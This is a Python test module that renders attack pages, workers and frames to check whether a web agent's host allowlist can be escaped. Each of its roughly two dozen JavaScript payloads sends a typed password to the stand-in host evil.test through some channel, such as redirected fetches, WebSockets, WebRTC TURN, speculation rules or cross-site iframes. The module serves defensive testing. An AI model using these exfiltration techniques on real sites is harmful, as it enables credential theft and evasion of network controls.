"""The attack pages of ``webagent.testing.attacksites``: one per channel a page can open.

Each attack is the body of an async function ``attack(secret)`` run on a page of the allowed site
(``render_page``), with helpers every page has: ``F`` (the forbidden endpoints), ``R(url, status)``
(an allowed redirect to ``url``), ``wait(ms)``, ``settle(promise, ms)`` (its outcome, or
"timeout"), ``worker(kind, job)`` (a shared or dedicated worker running ``render_worker``'s job),
``ice(servers)`` (WebRTC ICE gathering), ``speculate(kind, urls)`` (speculation rules) and
``frame(job)`` (a cross-site frame running ``render_frame``'s job). The page reports the result to
the allowed site's ``/done`` when the attack is over.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Literal

__all__ = [
    "ALLOWED_HOST",
    "ATTACKS",
    "FORBIDDEN_HOST",
    "FRAME_HOST",
    "SECRET_BUTTON",
    "SECRET_FIELD",
    "Attack",
    "Target",
    "render_frame",
    "render_page",
    "render_worker",
]

ALLOWED_HOST = "shop.test"
FRAME_HOST = "ads.test"  # another allowed site: its frames run in their own process
FORBIDDEN_HOST = "evil.test"
#: Centre (CSS pixels) of the password field and of the button that sends it, on every attack page.
SECRET_FIELD = (170.0, 40.0)
SECRET_BUTTON = (170.0, 120.0)

Target = Literal["host", "private"]


@dataclass(frozen=True)
class Attack:
    """One way off the allowed site: the page's script (``attack(secret)``, an async function body)."""

    name: str
    script: str
    row: int  # the row of issue 23's table it belongs to


def _attacks() -> dict[str, Attack]:
    # Helpers every page has: F (the forbidden endpoints), R(url, status) an allowed redirect to
    # url, wait(ms), settle(promise, ms) (its outcome or "timeout"), worker(kind, job).
    items = [
        # Row 1: CORS-mode requests redirected from an allowed URL to a forbidden one.
        Attack(
            "fetch-redirect",
            "const r = await fetch(R(F.http + '/fetch-redirect?s=' + secret, 302)); return await r.text();",
            1,
        ),
        Attack(
            "fetch-redirect-post",
            "const r = await fetch(R(F.http + '/fetch-307', 307), {method: 'POST', body: 'pw=' + secret}); return await r.text();",
            1,
        ),
        Attack(
            "xhr-redirect",
            "return await new Promise(ok => { const x = new XMLHttpRequest(); x.open('GET', R(F.http + '/xhr?s=' + secret, 302));"
            " x.onload = () => ok(x.responseText); x.onerror = () => ok('error'); x.send(); });",
            1,
        ),
        Attack(
            "eventsource-redirect",
            "const es = new EventSource(R(F.http + '/events?s=' + secret, 302));"
            " const r = await settle(new Promise(ok => { es.onmessage = e => ok(e.data); es.onerror = () => ok('error'); }), 5000);"
            " es.close(); return r;",
            1,
        ),
        Attack(
            "script-redirect",
            "return await new Promise(ok => { const s = document.createElement('script'); s.crossOrigin = 'anonymous';"
            " s.src = R(F.http + '/script.js?s=' + secret, 302); s.onload = () => ok('loaded'); s.onerror = () => ok('error');"
            " document.head.append(s); });",
            1,
        ),
        Attack(
            "img-redirect",
            "return await new Promise(ok => { const i = new Image(); i.crossOrigin = 'anonymous';"
            " i.onload = () => ok('loaded'); i.onerror = () => ok('error'); i.src = R(F.http + '/img.png?s=' + secret, 302); });",
            1,
        ),
        # Row 2: workers.
        Attack("sharedworker-fetch", "return await worker('shared', 'fetch', secret);", 2),
        Attack("sharedworker-redirect", "return await worker('shared', 'redirect', secret);", 2),
        Attack("sharedworker-websocket", "return await worker('shared', 'websocket', secret);", 2),
        Attack("worker-websocket", "return await worker('dedicated', 'websocket', secret);", 2),
        Attack("worker-redirect", "return await worker('dedicated', 'redirect', secret);", 2),
        # Row 5: channels outside HTTP(S) loaders.
        Attack("webrtc-stun", "return await ice([{urls: 'stun:' + F.udp}]);", 5),
        Attack(
            "webrtc-turn-udp",
            "return await ice([{urls: 'turn:' + F.udp + '?transport=udp', username: secret, credential: 'x'}]);",
            5,
        ),
        Attack(
            "webrtc-turn-tcp",
            "return await ice([{urls: 'turn:' + F.tcp + '?transport=tcp', username: secret, credential: 'x'}]);",
            5,
        ),
        Attack(
            "webtransport",
            "const t = new WebTransport(F.quic + '/wt?s=' + secret); const r = await settle(t.ready.then(() => 'open'), 3000);"
            " try { t.close(); } catch (e) {} return r;",
            5,
        ),
        Attack(
            "payment-request",
            "const p = new PaymentRequest([{supportedMethods: F.https + '/pay'}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}});"
            " return await settle(p.canMakePayment().then(String), 3000);",
            5,
        ),
        Attack(
            "fedcm",
            "return await settle(navigator.credentials.get({identity: {providers: [{configURL: F.https + '/fedcm.json', clientId: 'c'}]}})"
            ".then(() => 'signed in'), 3000);",
            5,
        ),
        Attack(
            "speculation-prefetch",
            "return await speculate('prefetch', [F.https + '/prefetch', F.http + '/prefetch']);",
            5,
        ),
        Attack("speculation-prerender", "return await speculate('prerender', [F.sameSite + '/prerender']);", 5),
        Attack(
            "speculation-prerender-redirect",
            "return await speculate('prerender', [R(F.http + '/prerender-hop', 302)]);",
            5,
        ),
        # Row 8: a cross-site (out-of-process) frame.
        Attack("oopif-navigate", "return await frame('navigate');", 8),
        Attack("oopif-redirect", "return await frame('redirect');", 8),
        Attack("oopif-fetch-redirect", "return await frame('fetch-redirect');", 8),
        # Row 9: a popup to an allowed URL that redirects away (needs a click: popups want a gesture).
        Attack("popup-redirect", "window.open(R(F.http + '/popup', 302)); return 'opened';", 9),
    ]
    return {a.name: a for a in items}


#: Every attack, by name.
ATTACKS = _attacks()

_HELPERS = """
const R = (url, status) => location.origin + '/redirect?status=' + status + '&to=' + encodeURIComponent(url);
const wait = ms => new Promise(ok => setTimeout(() => ok('timeout'), ms));
const settle = (p, ms) => Promise.race([Promise.resolve(p).catch(e => 'error: ' + e), wait(ms)]);
async function worker(kind, job, secret) {
  const src = '/worker.js?job=' + job + '&target=' + TARGET + '&s=' + encodeURIComponent(secret);
  return await settle(new Promise(ok => {
    if (kind === 'shared') { const w = new SharedWorker(src); w.port.onmessage = e => ok(e.data); w.port.start(); }
    else { const w = new Worker(src); w.onmessage = e => ok(e.data); w.onerror = () => ok('error'); }
  }), 8000);
}
async function ice(iceServers) {
  const pc = new RTCPeerConnection({iceServers, iceTransportPolicy: 'all'});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  const r = await settle(new Promise(ok => { pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && ok('gathered'); }), 4000);
  pc.close();
  return r;
}
async function speculate(kind, urls) {
  const s = document.createElement('script');
  s.type = 'speculationrules';
  s.textContent = JSON.stringify({[kind]: [{source: 'list', urls, eagerness: 'immediate'}]});
  document.head.append(s);
  return await wait(2000);
}
async function frame(job) {
  const f = document.createElement('iframe');
  f.src = F.frame + '/frame?job=' + job + '&target=' + TARGET;
  f.style = 'position:absolute;left:400px;top:200px;width:300px;height:200px';
  document.body.append(f);
  return await settle(new Promise(ok => addEventListener('message', e => ok(e.data))), 8000);
}
"""

_WORKER = """
const F = %(forbidden)s;
const R = (url, status) => location.origin + '/redirect?status=' + status + '&to=' + encodeURIComponent(url);
const secret = %(secret)s;
async function job() {
  try {
    if (JOB === 'fetch') return await (await fetch(F.http + '/worker-fetch?s=' + secret)).text();
    if (JOB === 'redirect') return await (await fetch(R(F.http + '/worker-307', 307), {method: 'POST', body: 'pw=' + secret})).text();
    if (JOB === 'websocket') return await new Promise(ok => {
      const ws = new WebSocket(F.ws + '/worker-socket?s=' + secret);
      ws.onopen = () => ok('open'); ws.onerror = () => ok('error'); setTimeout(() => ok('timeout'), 5000);
    });
  } catch (e) { return 'error: ' + e; }
}
const JOB = %(job)s;
if (typeof onconnect === 'undefined' && typeof WorkerGlobalScope !== 'undefined' && !self.SharedWorkerGlobalScope)
  job().then(r => postMessage(r));
else onconnect = e => { const port = e.ports[0]; job().then(r => port.postMessage(r)); };
"""

_FRAME = """<!doctype html><html><head><meta charset="utf-8"><title>frame</title></head><body>frame
<script>
const F = %(forbidden)s;
const R = (url, status) => location.origin + '/redirect?status=' + status + '&to=' + encodeURIComponent(url);
const JOB = %(job)s;
onload = async () => {
  if (JOB === 'navigate') { parent.postMessage('navigating', '*'); location.href = F.http + '/oopif-navigate'; }
  else if (JOB === 'redirect') { parent.postMessage('navigating', '*'); location.href = R(F.http + '/oopif-redirect', 302); }
  else {
    let r;
    try { r = await (await fetch(R(F.http + '/oopif-fetch', 307), {method: 'POST', body: 'x'})).text(); } catch (e) { r = 'error'; }
    parent.postMessage(r, '*');
  }
};
</script></body></html>
"""

_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Attack %(name)s</title>
<style>body{margin:0;font:16px sans-serif} .x{position:absolute;left:20px;width:300px;height:40px;font:16px sans-serif}</style>
</head><body>
<input class="x" id="pw" type="password" autocomplete="off" style="top:20px">
<button class="x" id="go" style="top:100px">Send</button>
<div id="out" style="position:absolute;left:20px;top:180px"></div>
<script>
const F = %(forbidden)s;
const TARGET = %(target)s;
%(helpers)s
async function attack(secret) { %(script)s }
async function run() {
  let result;
  try { result = String(await attack(document.getElementById('pw').value || 'none')); } catch (e) { result = 'error: ' + e; }
  document.getElementById('out').textContent = result;
  await fetch('/done?attack=%(name)s&result=' + encodeURIComponent(result)).catch(() => {});
}
%(start)s
</script></body></html>
"""


def render_page(attack: Attack, forbidden: dict[str, str], target: Target, *, on_click: bool) -> str:
    """The page of ``attack``, aimed at ``forbidden``; run on load, or on the button with ``on_click``."""
    return _PAGE % {
        "name": attack.name,
        "forbidden": json.dumps(forbidden),
        "target": json.dumps(target),
        "helpers": _HELPERS,
        "script": attack.script,
        "start": "document.getElementById('go').onclick = run;" if on_click else "run();",
    }


def render_worker(forbidden: dict[str, str], job: str, secret: str) -> str:
    """The script of an attack's shared or dedicated worker."""
    return _WORKER % {"forbidden": json.dumps(forbidden), "secret": json.dumps(secret), "job": json.dumps(job)}


def render_frame(forbidden: dict[str, str], job: str) -> str:
    """The page of an attack's cross-site frame."""
    return _FRAME % {"forbidden": json.dumps(forbidden), "job": json.dumps(job)}
